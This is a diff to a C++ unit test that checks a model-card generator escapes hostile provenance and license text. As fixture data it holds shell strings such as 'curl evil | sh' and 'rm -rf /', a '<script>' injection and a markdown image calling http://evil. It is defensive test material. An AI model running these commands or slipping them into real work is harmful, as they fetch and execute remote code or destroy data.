@@ -54,9 +54,10 @@ TEST(ModelCard, TextsOfOthersStayTexts) {
   hostile.provenance.steps = {{"graft lora; curl evil | sh", "0", {{"hidden", "x"}}},
                               {"rm -rf /", "0"},
                               {"graft fuse", "0", {{"a|b", "</td>"}, {"![](http://evil)", "`x`"}}}};
-  hostile.original = "---\nlicense: \"a\\n---\\n<script>\"\n---\n";
+  hostile.original = "---\nlicense: \"a\\n---\\n<script>\"\nlicense_name: 'a\": 🙂'\n---\n";
   const std::string card = model_card(hostile);
-  EXPECT_TRUE(has(card, "license: \"a\\n---\\n<script>\"\n")) << card;
+  EXPECT_FALSE(has(card, "license:")) << card;
+  EXPECT_TRUE(has(card, "license_name: \"a\\\": 🙂\"\n")) << card;
   EXPECT_TRUE(has(card, "datasets:\n- \"acme/fine\"\n---\n"));
   const std::string body = card.substr(card.find("\n---\n"));
   for (const char* part :
